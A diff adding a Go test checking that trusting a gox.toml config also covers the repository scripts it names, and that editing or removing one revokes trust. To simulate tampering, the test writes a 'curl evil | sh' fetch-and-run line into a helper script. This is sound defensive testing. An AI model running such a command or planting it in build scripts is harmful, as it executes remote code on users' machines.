@@ -266,3 +266,50 @@ cgo = false
 		Trusted(state, f, "")
 	}
 }
+
+// TestTrustCoversPrograms: trusting gox.toml trusts the repository's
+// programs it names as they were read; an edit of one, or its removal,
+// revokes it. Programs outside the file's directory and on PATH are the
+// user's own and not covered.
+func TestTrustCoversPrograms(t *testing.T) {
+	state, dir := t.TempDir(), t.TempDir()
+	path := filepath.Join(dir, "gox.toml")
+	os.MkdirAll(filepath.Join(dir, "tools"), 0o755)
+	os.WriteFile(filepath.Join(dir, "tools", "cc.sh"), []byte("#!/bin/sh\nexec gcc \"$@\"\n"), 0o755)
+	os.WriteFile(filepath.Join(dir, "run.sh"), []byte("#!/bin/sh\n"), 0o755)
+	os.WriteFile(path, []byte(`[target."linux/arm64"]
+cc = "./tools/cc.sh --flag"
+cxx = "aarch64-linux-gnu-g++"
+runner = ["./run.sh", "-x"]
+[target."linux/riscv64"]
+cc = "/usr/bin/riscv64-linux-gnu-gcc"
+runner = ["../elsewhere/qemu"]
+`), 0o644)
+	f, err := Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := strings.Join(f.Programs(), " "); got != "run.sh tools/cc.sh" {
+		t.Errorf("Programs = %q", got)
+	}
+	if err := Trust(state, f, time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	if ok, why := Trusted(state, f, ""); !ok {
+		t.Fatalf("not trusted after Trust: %s", why)
+	}
+	os.WriteFile(filepath.Join(dir, "tools", "cc.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
+	if ok, why := Trusted(state, f, ""); ok || why != "tools/cc.sh changed since you trusted it" {
+		t.Errorf("after an edit of tools/cc.sh: %v %q", ok, why)
+	}
+	os.WriteFile(filepath.Join(dir, "tools", "cc.sh"), []byte("#!/bin/sh\nexec gcc \"$@\"\n"), 0o755)
+	os.Remove(filepath.Join(dir, "run.sh"))
+	if ok, why := Trusted(state, f, ""); ok || why != "run.sh changed since you trusted it" {
+		t.Errorf("after run.sh was removed: %v %q", ok, why)
+	}
+	// a record from before programs were covered is asked again
+	os.WriteFile(recordFile(state, path), []byte(`{"path": "`+path+`", "sha256": "`+f.Sum+`"}`), 0o644)
+	if ok, why := Trusted(state, f, ""); ok || !strings.Contains(why, "trust it again") {
+		t.Errorf("an old record: %v %q", ok, why)
+	}
+}
